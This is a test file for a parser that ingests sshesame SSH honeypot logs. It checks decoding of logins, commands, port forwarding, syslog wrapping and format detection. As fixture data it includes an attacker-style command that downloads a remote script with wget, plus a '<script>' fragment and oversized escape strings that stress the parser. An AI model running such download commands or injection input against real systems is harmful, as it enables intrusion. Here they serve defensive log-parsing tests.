import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { FORMATS } from '../../src/ingest/formats/index.ts';
import { plaintextFormat } from '../../src/ingest/formats/plaintext.ts';
import { sshesameFormat } from '../../src/ingest/formats/service-logs/sshesame.ts';
import { decodeSshesame } from '../../src/ingest/formats/services/sshesame.ts';
import { detectFormat } from '../../src/ingest/sniff.ts';
import { lineFormatHelpers } from '../helpers/format.ts';
import { hostileEvents, readAs } from '../helpers/hostile.ts';

const { sample } = lineFormatHelpers(sshesameFormat);
const C = '[203.0.113.9:58629]';

void describe('sshesame honeypot', () => {
  void it('reads logins with the method and the secret tried, Go-quoted strings unquoted', () => {
    const password = decodeSshesame(`${C} authentication for user "ro\\"ot" with password "a\\tb\\x41" accepted`);
    assert.deepEqual([password?.event?.action, password?.event?.outcome, password?.user?.name, password?.source, password?.labels?.['sshesame.password']], ['login', 'success', 'ro"ot', { ip: '203.0.113.9', port: 58629 }, 'a\tbA']);
    const none = decodeSshesame(`${C} authentication for user "admin" without credentials rejected`);
    assert.deepEqual([none?.event?.outcome, none?.labels?.['ssh.auth_method']], ['failure', 'none']);
    const key = decodeSshesame('[[2001:db8::7]:40000] authentication for user "git" with public key "SHA256:abc" rejected');
    assert.deepEqual([key?.source, key?.labels?.['sshesame.credential'], key?.labels?.['sshesame.password']], [{ ip: '2001:db8::7', port: 40000 }, 'SHA256:abc', undefined]);
  });

  void it('reads commands, input, forwarding requests and closings per channel', () => {
    const command = decodeSshesame(`${C} [channel 2] command "wget http://198.51.100.66/x.sh" requested`);
    assert.deepEqual([command?.event?.action, command?.process?.command_line, command?.labels?.['sshesame.channel']], ['honeypot-command', 'wget http://198.51.100.66/x.sh', '2']);
    const forward = decodeSshesame(`${C} [channel 3] direct TCP/IP forwarding from 127.0.0.1:22 to 198.51.100.80:80 requested`);
    assert.deepEqual([forward?.event?.action, forward?.destination], ['honeypot-tcpip-forward', { ip: '198.51.100.80', port: 80 }]);
    assert.equal(decodeSshesame(`${C} [channel 3] input: "GET / HTTP/1.1\\r\\n"`)?.labels?.['sshesame.input'], 'GET / HTTP/1.1\r\n');
    // An escaped backslash before `x41` is a backslash and the text `x41`, not the byte 0x41.
    assert.equal(decodeSshesame(`${C} [channel 3] input: "a\\\\x41\\x42"`)?.labels?.['sshesame.input'], 'a\\x41B');
    assert.equal(decodeSshesame(`${C} connection closed`)?.event?.action, 'honeypot-connection-closed');
    assert.equal(decodeSshesame('[not-an-address] connection closed'), undefined);
  });

  void it('reads the same lines through syslog under the sshesame program', async () => {
    const { events, errors } = await readAs('syslog', `Nov 23 10:00:00 hp sshesame[80]: ${C} authentication for user "root" with password "x" accepted\n`);
    assert.deepEqual(errors, []);
    assert.deepEqual([events[0]?.event.dataset, events[0]?.event.action, events[0]?.user?.name, events[0]?.source?.ip], ['sshesame', 'login', 'root', '203.0.113.9']);
  });

  void it('is told from other Go logs by its messages, and survives hostile lines', async () => {
    assert.equal(detectFormat(sample([`2024/11/23 08:00:00 ${C} connection with client version "SSH-2.0-Go" established`]), FORMATS, plaintextFormat).format.id, 'sshesame');
    assert.notEqual(detectFormat(sample(['2024/11/23 08:00:00 [main] server started', '2024/11/23 08:00:01 [db] connected']), FORMATS, plaintextFormat).format.id, 'sshesame');
    const hostile = [
      `2024/11/23 08:00:00 ${C} connection with client version "SSH-2.0-Go" established`,
      `2024/11/23 08:00:01 ${C} authentication for user "${'\\"'.repeat(3000)}" with password "${'\\x'.repeat(3000)}" accepted`,
      `2024/11/23 08:00:02 ${C} [channel 1] input: "${'\\u0000'.repeat(100)}<script>"`,
      '',
    ].join('\n');
    await hostileEvents('sshesame', hostile, 3);
  });
});
